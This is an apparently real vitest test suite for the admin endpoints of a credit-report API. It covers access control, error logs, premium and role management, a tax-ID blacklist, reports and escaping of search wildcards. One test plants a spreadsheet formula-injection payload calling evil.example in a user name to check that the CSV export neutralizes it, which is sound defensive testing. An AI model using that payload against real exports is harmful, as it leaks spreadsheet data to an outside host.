import { sql, type SQL } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '@tirr/domain';
import { DEMO_ACCOUNTS } from '../../demo-seed';
import { bearer, createTestApp, signIn, type TestApp } from '../../test/harness';
import { blacklistRepository } from './blacklist.repository';

/** Rows of a raw SQL query (PGlite and node-postgres both answer { rows }). */
const rows = async <T>(query: SQL): Promise<T[]> =>
  ((await t.database.db.execute(query)) as unknown as { rows: T[] }).rows;

let t: TestApp;
const tokens: Record<string, string> = {};
const ids: Record<string, string> = {};
const ROLES = ['free', 'premium', 'admin', 'sysadmin'] as const;

beforeAll(async () => {
  t = await createTestApp();
  for (const role of ROLES) {
    tokens[role] = (await signIn(t.app, `${role}@tirr.demo`)).accessToken;
    const me = await t.app.inject({
      method: 'POST',
      url: '/api/v1/users/me',
      headers: bearer(tokens[role]!),
      payload: {},
    });
    expect(me.statusCode).toBe(200);
  }
  const users = await rows<{ id: string; email: string }>(sql`select id, email from users`);
  for (const row of users) ids[row.email.split('@')[0]!] = row.id;
});
afterAll(async () => t?.close());

type Who = 'guest' | (typeof ROLES)[number];
const call = (who: Who, method: 'GET' | 'POST' | 'PATCH' | 'PUT' | 'DELETE', url: string, payload?: object) =>
  t.app.inject({
    method,
    url: `/api/v1${url}`,
    headers: who === 'guest' ? {} : bearer(tokens[who]!),
    ...(payload ? { payload } : {}),
  });

const today = () => new Date(Date.now() - 3 * 3600_000).toISOString().slice(0, 10);

describe('who may call the System endpoints', () => {
  const endpoints = (): Array<[string, 'GET' | 'POST' | 'PATCH' | 'PUT' | 'DELETE', string, object?, Who?]> => [
    ['errors list', 'GET', '/system/errors', undefined, 'sysadmin'],
    ['users list', 'GET', '/system/users'],
    ['blacklist', 'GET', '/system/blacklist'],
    ['reports', 'GET', `/system/reports?from=${today()}&to=${today()}`],
    ['reports csv', 'GET', `/system/reports.csv?from=${today()}&to=${today()}`],
  ];
  it.each(['guest', 'free', 'premium'] as const)('refuses %s', async (who) => {
    for (const [label, method, url] of endpoints()) {
      const response = await call(who, method, url);
      expect(response.statusCode, `${label} ${who}`).toBe(who === 'guest' ? 401 : 403);
    }
  });
  it('refuses the error log to admins and allows it to sysadmins', async () => {
    expect((await call('admin', 'GET', '/system/errors')).statusCode).toBe(403);
    expect((await call('sysadmin', 'GET', '/system/errors')).statusCode).toBe(200);
  });
  it.each(['admin', 'sysadmin'] as const)('allows the admin screens to %s', async (who) => {
    for (const [label, method, url, , only] of endpoints()) {
      if (only) continue;
      expect((await call(who, method, url)).statusCode, `${label} ${who}`).toBe(200);
    }
  });
});

describe('/system/errors', () => {
  it('lists, filters, shows the stack and marks resolved', async () => {
    const created = await call('free', 'POST', '/logs/errors', {
      type: 'react',
      path: '/credits/diag',
      description: 'TypeError: kaboom-unique',
      stack: 'TypeError: kaboom-unique\n at Page (page.tsx:1)',
    });
    const { id } = created.json();
    const list = await call('sysadmin', 'GET', '/system/errors?q=kaboom-unique&type=react');
    expect(list.json()).toMatchObject({
      total: 1,
      items: [{ id, path: '/credits/diag', userEmail: 'free@tirr.demo' }],
    });
    expect((await call('sysadmin', 'GET', '/system/errors?q=kaboom-unique&type=node')).json().total).toBe(0);
    const detail = await call('sysadmin', 'GET', `/system/errors/${id}`);
    expect(detail.json().stack).toContain('page.tsx:1');
    const resolved = await call('sysadmin', 'PATCH', `/system/errors/${id}`, { resolved: true });
    expect(resolved.json().resolvedAt).toBeTruthy();
    expect((await call('sysadmin', 'GET', '/system/errors?q=kaboom-unique')).json().total).toBe(0);
    expect((await call('sysadmin', 'GET', '/system/errors?q=kaboom-unique&status=resolved')).json().total).toBe(1);
    expect((await call('sysadmin', 'GET', '/system/errors/999999')).statusCode).toBe(404);
    expect((await call('sysadmin', 'GET', '/system/errors?pageSize=0')).json().message).toContain('pageSize');
  });

  it('records server errors as node with the route path and without personal data', async () => {
    const before = (await call('sysadmin', 'GET', '/system/errors?type=node')).json().total;
    t.app.log.level = 'silent';
    await t.database.db.execute(sql`alter table blocked_cuits rename to blocked_cuits_gone`);
    try {
      const response = await call('admin', 'GET', '/system/blacklist?q=20-28345671-9');
      expect(response.statusCode).toBe(500);
    } finally {
      await t.database.db.execute(sql`alter table blocked_cuits_gone rename to blocked_cuits`);
    }
    const list = (await call('sysadmin', 'GET', '/system/errors?type=node')).json();
    expect(list.total).toBe(before + 1);
    const row = (await call('sysadmin', 'GET', `/system/errors/${list.items[0].id}`)).json();
    expect(row).toMatchObject({ type: 'node', path: '/api/v1/system/blacklist' });
    expect(`${row?.description} ${row?.stack}`).not.toContain('28345671');
  });
});

describe('/system/users', () => {
  it('searches and pages with quota use and premium requests', async () => {
    await call('free', 'POST', '/consultProfiles/createRequestPremium');
    const list = (await call('admin', 'GET', '/system/users?q=free%40tirr')).json();
    expect(list.total).toBe(1);
    expect(list.items[0]).toMatchObject({
      email: 'free@tirr.demo',
      role: 'free',
      effectiveRole: 'free',
      monthlyLimit: 3,
      premiumUntil: null,
    });
    expect(list.items[0].premiumRequestedAt).toBeTruthy();
    const requested = (await call('admin', 'GET', '/system/users?requested=true')).json();
    expect(requested.items.map((u: { email: string }) => u.email)).toEqual(['free@tirr.demo']);
    const page = (await call('admin', 'GET', '/system/users?pageSize=2&page=1')).json();
    expect(page.items).toHaveLength(2);
    expect(page.total).toBe(DEMO_ACCOUNTS.length);
  });

  it('grants premium until a date, which the user then has; revoking takes it back; all audited', async () => {
    const until = new Date(Date.now() + 10 * 86400_000).toISOString().slice(0, 10);
    const granted = await call('admin', 'PUT', `/system/users/${ids.free}/premium`, { until });
    expect(granted.statusCode).toBe(200);
    expect(granted.json()).toMatchObject({ role: 'free', effectiveRole: 'premium', monthlyLimit: null });
    const me = await call('free', 'POST', '/users/me', {});
    expect(me.json()).toMatchObject({ role: 'premium', permissions: ['premium', 'free'] });
    const revoked = await call('admin', 'DELETE', `/system/users/${ids.free}/premium`);
    expect(revoked.json()).toMatchObject({ effectiveRole: 'free', premiumUntil: null });
    expect((await call('free', 'POST', '/users/me', {})).json().role).toBe('free');
    const audit = (await call('admin', 'GET', `/system/users/${ids.free}/audit`)).json();
    expect(audit.items.map((a: { action: string }) => a.action)).toEqual(['premium.revoke', 'premium.grant']);
    expect(audit.items[1].actorEmail).toBe('admin@tirr.demo');
    const past = await call('admin', 'PUT', `/system/users/${ids.free}/premium`, { until: '2020-01-01' });
    expect(past.statusCode).toBe(400);
    expect(past.json().message).toContain('until');
  });

  it('drops an expired premium back to free', async () => {
    await t.database.db.execute(
      sql`update users set premium_until = now() - interval '1 minute' where id = ${ids.free}`,
    );
    expect((await call('free', 'POST', '/users/me', {})).json()).toMatchObject({ role: 'free', permissions: ['free'] });
    const listed = (await call('admin', 'GET', '/system/users?q=free%40tirr')).json().items[0];
    expect(listed).toMatchObject({ role: 'free', effectiveRole: 'free', monthlyLimit: 3 });
    expect(listed.premiumUntil).toBeTruthy();
    await t.database.db.execute(sql`update users set premium_until = null where id = ${ids.free}`);
  });

  it('changes roles: sysadmin only by a sysadmin; the last sysadmin stays', async () => {
    const toAdmin = await call('admin', 'PATCH', `/system/users/${ids.free}/role`, { role: 'premium' });
    expect(toAdmin.json()).toMatchObject({ role: 'premium', effectiveRole: 'premium' });
    expect((await call('admin', 'PATCH', `/system/users/${ids.free}/role`, { role: 'sysadmin' })).statusCode).toBe(403);
    expect((await call('admin', 'PATCH', `/system/users/${ids.sysadmin}/role`, { role: 'free' })).statusCode).toBe(403);
    const last = await call('sysadmin', 'PATCH', `/system/users/${ids.sysadmin}/role`, { role: 'admin' });
    expect(last.statusCode).toBe(409);
    expect(last.json().code).toBe('LAST_SYSADMIN');
    // With a second sysadmin, one of them may step down; never both at once.
    expect((await call('sysadmin', 'PATCH', `/system/users/${ids.free}/role`, { role: 'sysadmin' })).statusCode).toBe(
      200,
    );
    const both = await Promise.all([
      call('sysadmin', 'PATCH', `/system/users/${ids.free}/role`, { role: 'free' }),
      call('sysadmin', 'PATCH', `/system/users/${ids.sysadmin}/role`, { role: 'admin' }),
    ]);
    expect(both.map((r) => r.statusCode).sort()).toEqual([200, 409]);
    const [{ count } = { count: 0 }] = await rows<{ count: number }>(
      sql`select count(*)::int as count from users where role = 'sysadmin'`,
    );
    expect(count).toBe(1);
    // Put the demo roles back for the other tests.
    await t.database.db.execute(sql`update users set role = 'free' where id = ${ids.free}`);
    await t.database.db.execute(sql`update users set role = 'sysadmin' where id = ${ids.sysadmin}`);
    const bad = await call('admin', 'PATCH', `/system/users/${ids.free}/role`, { role: 'owner' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toContain('role');
    expect((await call('admin', 'PATCH', '/system/users/not-a-uuid/role', { role: 'free' })).json().message).toContain(
      'id',
    );
  });
});

describe('/system/blacklist', () => {
  const blocked = '20-31456782-0';
  it('adds a validated CUIT, hides it from non-admins, lists and removes it (audited)', async () => {
    const bad = await call('admin', 'POST', '/system/blacklist', {
      taxNumber: '20-31456782-1',
      reason: 'Pedido',
      requestedBy: 'Titular',
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().details[0].field).toBe('taxNumber');
    const unknownPrefix = await call('admin', 'POST', '/system/blacklist', {
      taxNumber: '00000000000',
      reason: 'Pedido',
      requestedBy: 'Titular',
    });
    expect(unknownPrefix.statusCode).toBe(400);
    expect(unknownPrefix.json().details[0]).toMatchObject({
      field: 'taxNumber',
      message: 'Prefijo de CUIT/CUIL desconocido.',
    });
    const missing = await call('admin', 'POST', '/system/blacklist', { taxNumber: blocked, reason: 'x' });
    expect(missing.statusCode).toBe(400);
    const added = await call('admin', 'POST', '/system/blacklist', {
      taxNumber: blocked,
      reason: 'Habeas data (Ley 25.326)',
      requestedBy: 'El titular, por correo',
    });
    expect(added.statusCode).toBe(201);
    expect(added.json()).toEqual({ taxNumber: '20314567820' });
    expect(
      (await call('admin', 'POST', '/system/blacklist', { taxNumber: blocked, reason: 'Otra', requestedBy: 'X Y' }))
        .statusCode,
    ).toBe(409);
    const list = (await call('admin', 'GET', '/system/blacklist?q=3145')).json();
    expect(list.items[0]).toMatchObject({
      taxNumber: '20314567820',
      requestedBy: 'El titular, por correo',
      createdByEmail: 'admin@tirr.demo',
    });
    expect((await call('free', 'GET', '/credit/20314567820/report')).json().code).toBe('TAX_ID_BLOCKED');
    expect((await call('admin', 'DELETE', '/system/blacklist/20314567820')).statusCode).toBe(200);
    expect((await call('admin', 'DELETE', '/system/blacklist/20314567820')).statusCode).toBe(404);
    const unknownRemoval = await call('admin', 'DELETE', '/system/blacklist/00000000000');
    expect(unknownRemoval.statusCode).toBe(400);
    expect(unknownRemoval.json().details[0].message).toBe('Prefijo de CUIT/CUIL desconocido.');
    const audit = await rows<{ action: string }>(
      sql`select action from admin_audit where action like 'blacklist.%' order by id`,
    );
    expect(audit.map((r) => r.action)).toEqual(['blacklist.add', 'blacklist.remove']);
  });
});

describe('/system/reports', () => {
  it('neutralizes formulas in the exported CSV: a name cannot run in a spreadsheet (ADR 0112)', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
    const [{ name } = { name: null }] = await rows<{ name: string | null }>(
      sql`select name from users where id = ${ids.premium}`,
    );
    await t.database.db.execute(sql`update users set name = ${hostile} where id = ${ids.premium}`);
    try {
      expect((await call('premium', 'GET', '/credit/20314567820/report')).statusCode).toBe(200);
      const day = today();
      const csv = await call('admin', 'GET', `/system/reports.csv?from=${day}&to=${day}`);
      const table = parseCsv(csv.body);
      expect(table.find((row) => row[0] === 'premium@tirr.demo')).toEqual([
        'premium@tirr.demo',
        `'${hostile}`,
        expect.stringMatching(/^[1-9]\d*$/),
      ]);
      expect(table.find((row) => row[0] === day)).toEqual([day, expect.stringMatching(/^[1-9]\d*$/)]);
    } finally {
      await t.database.db.execute(sql`update users set name = ${name} where id = ${ids.premium}`);
    }
  });

  it("counts today's consults per day, top users and tax ids; exports CSV", async () => {
    expect((await call('premium', 'GET', '/credit/23283456714/report')).statusCode).toBe(200);
    const day = today();
    const report = (await call('admin', 'GET', `/system/reports?from=${day}&to=${day}`)).json();
    expect(report.consultsPerDay).toEqual([{ day, count: expect.any(Number) }]);
    expect(report.consultsPerDay[0].count).toBeGreaterThanOrEqual(1);
    expect(report.topUsers.map((u: { email: string }) => u.email)).toContain('premium@tirr.demo');
    expect(report.topTaxIds.map((u: { taxNumber: string }) => u.taxNumber)).toContain('23283456714');
    expect(report.newUsers).toBe(DEMO_ACCOUNTS.length);
    expect(report.premiumRequests).toBe(1);
    const csv = await call('admin', 'GET', `/system/reports.csv?from=${day}&to=${day}`);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body).toContain(`${day};${report.consultsPerDay[0].count}`);
    expect(csv.body).toContain('premium@tirr.demo');
    const week = (await call('admin', 'GET', '/system/reports?from=2026-01-01&to=2026-01-07')).json();
    expect(week.consultsPerDay.map((d: { day: string }) => d.day)).toEqual([
      '2026-01-01',
      '2026-01-02',
      '2026-01-03',
      '2026-01-04',
      '2026-01-05',
      '2026-01-06',
      '2026-01-07',
    ]);
    const reversed = await call('admin', 'GET', '/system/reports?from=2026-02-01&to=2026-01-01');
    expect(reversed.statusCode).toBe(400);
    expect(reversed.json().message).toContain('to');
    expect((await call('admin', 'GET', '/system/reports?from=2020-01-01&to=2026-01-01')).statusCode).toBe(400);
    expect((await call('admin', 'GET', '/system/reports?from=ayer&to=2026-01-01')).json().message).toContain('from');
  });

  it("counts the consults looked at on purpose; the report's own sections are audited, not counted (ADR 0103)", async () => {
    const taxNumber = '30712345671';
    for (const url of [`/identity/${taxNumber}/details`, `/credit/${taxNumber}/activity-report`]) {
      expect((await call('premium', 'GET', url)).statusCode, url).toBe(200);
    }
    expect((await call('premium', 'GET', `/credit/${taxNumber}/report`)).statusCode).toBe(200);
    const audited = await rows<{ kind: string }>(
      sql`select kind from credit_consults where tax_number = ${taxNumber} order by kind`,
    );
    expect(audited.map((r) => r.kind)).toEqual(['activity', 'registry', 'report']);
    const day = today();
    const report = (await call('admin', 'GET', `/system/reports?from=${day}&to=${day}`)).json();
    expect(report.topTaxIds.find((r: { taxNumber: string }) => r.taxNumber === taxNumber)).toMatchObject({ count: 1 });
  });
});

describe("searches take '%' and '_' literally", () => {
  it('users: a wildcard in the search box matches only itself', async () => {
    const total = async (q: string) =>
      (await call('admin', 'GET', `/system/users?q=${encodeURIComponent(q)}`)).json().total as number;
    expect(await total('free@tirr')).toBe(1);
    expect(await total('fre_@tirr')).toBe(0);
    expect(await total('%@tirr.demo')).toBe(0);
    expect(await total('_')).toBe(0);
  });

  it('errors: an underscore is an underscore, a percent sign a percent sign', async () => {
    for (const description of ['lote_7 falló al 100%', 'loteX7 falló al 1000']) {
      expect((await call('free', 'POST', '/logs/errors', { type: 'react', path: '/', description })).statusCode).toBe(
        201,
      );
    }
    const found = async (q: string) =>
      (await call('sysadmin', 'GET', `/system/errors?q=${encodeURIComponent(q)}`))
        .json()
        .items.map((i: { description: string }) => i.description);
    expect(await found('lote_7')).toEqual(['lote_7 falló al 100%']);
    expect(await found('100%')).toEqual(['lote_7 falló al 100%']);
    expect(await found('al 1%0')).toEqual([]);
  });

  it('blacklist: the repository escapes what it is given', async () => {
    expect(
      (
        await call('admin', 'POST', '/system/blacklist', {
          taxNumber: '30715896342',
          reason: 'Prueba',
          requestedBy: 'El titular',
        })
      ).statusCode,
    ).toBe(201);
    try {
      const blacklist = blacklistRepository(t.database.db);
      expect((await blacklist.list(0, 10, '7158')).rows.map((r) => r.taxNumber)).toEqual(['30715896342']);
      expect((await blacklist.list(0, 10, '%')).rows).toEqual([]);
      expect((await blacklist.list(0, 10, '3_71')).rows).toEqual([]);
    } finally {
      await call('admin', 'DELETE', '/system/blacklist/30715896342');
    }
  });
});
